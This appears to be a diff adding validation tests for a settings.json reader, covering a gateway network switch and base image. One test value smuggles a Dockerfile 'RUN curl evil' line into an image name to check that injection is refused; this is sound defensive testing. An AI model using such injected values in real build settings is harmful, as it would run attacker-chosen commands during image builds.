@@ -23,9 +23,22 @@ describe('settings.json', () => {
     ['a negative size', '{"maxInboxBytes": -1}', /field "maxInboxBytes"/],
     ['no CPUs', '{"cpus": 0}', /field "cpus"/],
     ['a bad log size', '{"logMaxSize": "10 MB"}', /field "logMaxSize"/],
+    ['a gateway switch that is no boolean', '{"gatewayNetwork": "yes"}', /field "gatewayNetwork"/],
+    [
+      'a gateway base that would add a Dockerfile line',
+      '{"gatewayBaseImage": "node:22\\nRUN curl evil"}',
+      /field "gatewayBaseImage": must be an image name/,
+    ],
+    ['a gateway base that is an option', '{"gatewayBaseImage": "--help"}', /field "gatewayBaseImage"/],
   ])('refuses %s with a one-line error naming the file and field', async (_what, text, message) => {
     await writeFile(settingsPath(), text);
     await expect(readSettings()).rejects.toThrow(message);
+  });
+
+  it('the gateway network is off by default, and its base image is node:22-slim', async () => {
+    expect(await readSettings()).toMatchObject({ gatewayNetwork: false, gatewayBaseImage: 'node:22-slim' });
+    await writeFile(settingsPath(), '{"gatewayNetwork": true, "gatewayBaseImage": "registry.example/node@sha256:abc"}');
+    expect(await readSettings()).toMatchObject({ gatewayNetwork: true, gatewayBaseImage: 'registry.example/node@sha256:abc' });
   });
 
   it('never follows a symlink', async () => {
